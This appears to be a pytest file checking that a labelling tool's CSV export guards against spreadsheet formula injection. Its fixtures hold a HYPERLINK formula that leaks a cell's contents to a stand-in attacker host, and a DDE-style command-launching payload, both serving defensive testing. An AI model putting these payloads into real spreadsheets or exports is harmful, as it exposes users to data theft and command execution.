"""CSV exports carry no formulas: text a spreadsheet could run gets a ' in front, numbers stay
numbers, and labelloop reads the file back to the exact values."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from sqlalchemy import select

from labelloop.io.readers import read_records
from labelloop.io.writers import write_rows
from labelloop.loop.project import Project, connect
from labelloop.settings import Settings
from labelloop.store import tables as t

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
RUNNABLE = [LINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1", "'=already quoted", "''+x"]
RUNS = ("=", "+", "-", "@", "\t", "\r")


def _raw(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_runnable_text_is_guarded_and_numbers_stay_numbers(tmp_path: Path) -> None:
    rows = [
        {"text": text, "labels": [LINK, "ok"], "n": -3, "x": -2.5, "s": "-7", "=col": "-1e3"}
        for text in RUNNABLE
    ]
    path = tmp_path / "out.csv"
    write_rows(rows, path, "csv")
    header, *body = _raw(path)
    assert header == ["text", "labels", "n", "x", "s", "'=col"]
    for cells in body:
        assert not cells[0].startswith(RUNS) and not cells[1].startswith(RUNS), cells
        assert cells[2:] == ["-3", "-2.5", "-7", "-1e3"]
    assert [cells[0] for cells in body][-2:] == ["''=already quoted", "'''+x"]
    back = [record for _, record in read_records(path)]
    assert [r["text"] for r in back] == RUNNABLE
    assert {r["labels"] for r in back} == {f"{LINK}|ok"}
    assert all(r["=col"] == "-1e3" for r in back)


def test_a_csv_export_guards_item_text_and_labels_and_says_so(tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path / "data")
    engine = connect(settings)
    try:
        config = {"name": "p", "labels": [LINK, "ok"]}
        project = Project.create(config, engine=engine, settings=settings, retrain="off")
        items = tmp_path / "items.jsonl"
        items.write_text(json.dumps({"id": 1, "text": "@cmd|' /C calc'!A0"}) + "\n")
        project.import_file(items)
        with engine.connect() as conn:
            item_id = conn.execute(select(t.items.c.id)).scalar_one()
        project.annotate(item_id, LINK, annotator="ann")
        version = project.export(tmp_path / "out.csv", fmt="csv")
        project.close()
    finally:
        engine.dispose()
    header, row = _raw(tmp_path / "out.csv")
    cells = dict(zip(header, row, strict=True))
    assert cells["text"] == "'@cmd|' /C calc'!A0" and cells["label"] == "'" + LINK
    assert all(not cell.startswith(RUNS) for cell in row)
    provenance = json.loads((tmp_path / "out.csv.provenance.json").read_text())
    assert "' put in front" in provenance["csv_formulas"] == version.provenance["csv_formulas"]
    assert provenance["audit"]["events"] > 0 and len(provenance["audit"]["head"]) == 64
